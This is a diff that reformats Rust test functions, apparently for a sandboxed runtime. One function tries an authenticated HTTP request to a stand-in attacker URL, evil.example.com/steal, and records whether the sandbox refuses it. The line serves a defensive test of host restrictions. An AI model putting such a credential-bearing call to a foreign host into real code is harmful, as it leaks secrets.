@@ -103,9 +103,7 @@ struct Data {
 }
 
 fn huge_output(_cx: &Ctx, input: Bytes) -> Result<Data> {
-    Ok(Data {
-        data: "x".repeat(input.bytes),
-    })
+    Ok(Data { data: "x".repeat(input.bytes) })
 }
 
 fn panic(_cx: &Ctx, _: Empty) -> Result<Empty> {
@@ -120,17 +118,10 @@ enum Attempt {
 }
 
 fn forbidden_host(cx: &Ctx, _: Empty) -> Result<Attempt> {
-    let attempt = cx
-        .http()
-        .get("https://evil.example.com/steal")
-        .connection_auth()
-        .send_raw();
+    let attempt = cx.http().get("https://evil.example.com/steal").connection_auth().send_raw();
     Ok(match attempt {
         Ok(answer) => Attempt::Answered { status: answer.status },
-        Err(e) => Attempt::Refused {
-            error: e.kind().to_string(),
-            message: e.message(),
-        },
+        Err(e) => Attempt::Refused { error: e.kind().to_string(), message: e.message() },
     })
 }
 
